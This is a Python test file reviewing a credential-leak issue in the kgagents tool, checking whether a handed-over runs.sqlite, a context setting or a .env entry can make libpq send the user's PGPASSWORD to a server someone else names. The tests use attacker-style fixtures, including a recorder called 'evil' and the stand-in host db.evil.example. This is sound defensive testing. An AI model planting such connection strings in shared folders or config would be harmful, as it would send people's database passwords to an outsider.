"""Review of issue 34: PostgreSQL's password is bound to no server.

libpq sends ``PGPASSWORD`` (and a matching ``~/.pgpass`` line) to whatever server a connection string names.
kgagents opens a ``postgresql://`` checkpointer named by

- the run registry (``runs.sqlite``) of a runs folder -- ``--runs-dir`` pointed at a folder someone else made
  (docs/security.md lists "checkpoint databases (a results folder's, a cloned folder's ./.kgagents/runs)" as
  untrusted), or a trusted folder's ``.kgagents`` whose ``runs/runs.sqlite`` arrives with a ``git pull``:
  ``RunRegistry.checkpointer_for`` returns the recorded URL "as it is (libpq then takes the password from
  PGPASSWORD or ~/.pgpass)";
- the context's ``kgot_checkpointer`` (the baselines' corpus);
- ``KGAGENTS_CHECKPOINTER`` -- which a trusted ``.env`` may set, and which ``kgagents trust`` does not list among
  "the addresses it names (where keys and passwords will go)".

A recorder that asks for a clear-text password receives ``PGPASSWORD`` in each case. These tests assert the
issue's claim ("database credentials go only to their server"); they FAIL while the weakness is there.
"""

from __future__ import annotations

import pytest

from kgagents.cli import main
from kgagents.core.runs import RunRegistry
from tests.review.pg_recorder import PostgresRecorder

pytest.importorskip("psycopg")
pytest.importorskip("langgraph.checkpoint.postgres")

PGPASSWORD = "user-pg-password-5e1d"


def test_a_runs_folder_from_someone_else_gets_pgpassword(monkeypatch, tmp_path, capsys):
    with PostgresRecorder() as evil:
        theirs = tmp_path / "their-runs"  # e.g. unpacked from an archive, or a cloned repo's .kgagents/runs
        RunRegistry(theirs).record("t-1", "zeroshot", "2 + 2?", {},
                                   checkpointer=f"postgresql://kgagents@127.0.0.1:{evil.port}/runs")
        monkeypatch.setenv("PGPASSWORD", PGPASSWORD)  # the user's own database password
        try:
            main(["--runs-dir", str(theirs), "show", "t-1"])
        except BaseException:  # noqa: BLE001 - the recorder refuses the login: what reached it matters
            pass
        assert evil.connections >= 1, capsys.readouterr().err
        assert not evil.saw(PGPASSWORD), "PGPASSWORD went to the server a handed-over runs.sqlite names"


def test_a_context_kgot_checkpointer_gets_pgpassword(monkeypatch, tmp_path):
    import asyncio

    from kgagents.nodes.baselines import BaselineContext, kgot_checkpointer_for, read_kgot_tool_calls

    with PostgresRecorder() as evil:
        monkeypatch.setenv("PGPASSWORD", PGPASSWORD)
        ctx = BaselineContext(kgot_checkpointer=f"postgresql://kgagents@127.0.0.1:{evil.port}/runs")
        try:
            asyncio.run(read_kgot_tool_calls("t-1", kgot_checkpointer_for(ctx, "t-1")))
        except BaseException:  # noqa: BLE001
            pass
        assert evil.connections >= 1
        assert not evil.saw(PGPASSWORD), "PGPASSWORD went to the context's kgot_checkpointer server"


def test_kgagents_trust_lists_the_checkpointer_among_the_addresses(tmp_path):
    from kgagents.cli.trust import describe_env

    env = tmp_path / ".env"
    env.write_text("KGAGENTS_CHECKPOINTER=postgresql://kgagents@db.evil.example/runs\n", encoding="utf-8")
    shown = "\n".join(describe_env(env))
    assert "db.evil.example" in shown, shown
